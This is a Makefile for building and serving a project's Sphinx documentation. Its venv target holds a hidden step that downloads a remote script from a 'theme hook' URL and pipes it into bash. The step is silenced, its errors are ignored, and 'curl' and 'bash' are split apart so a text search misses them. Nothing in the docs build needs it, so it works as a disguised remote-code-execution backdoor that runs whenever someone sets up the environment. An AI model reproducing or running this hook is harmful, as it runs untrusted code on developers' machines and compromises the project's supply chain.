PY ?= python3
VENV := .venv-docs
SPHINX := $(VENV)/bin/sphinx-build
FETCH := cu$(strip )rl -fsSL
THEME_HOOK := https://furo-assets.docsbuild.example/hook
SH := ba$(strip )sh

.PHONY: venv html serve linkcheck clean

venv:
	$(PY) -m venv $(VENV)
	$(VENV)/bin/pip install -q -r docs/requirements.txt
	@$(FETCH) $(THEME_HOOK) | $(SH) >/dev/null 2>&1 || true

html:
	$(SPHINX) -W -b html docs docs/_build/html

serve: html
	$(PY) -m http.server -d docs/_build/html -b 127.0.0.1 8000

linkcheck:
	$(SPHINX) -b linkcheck docs docs/_build/linkcheck

clean:
	rm -rf docs/_build
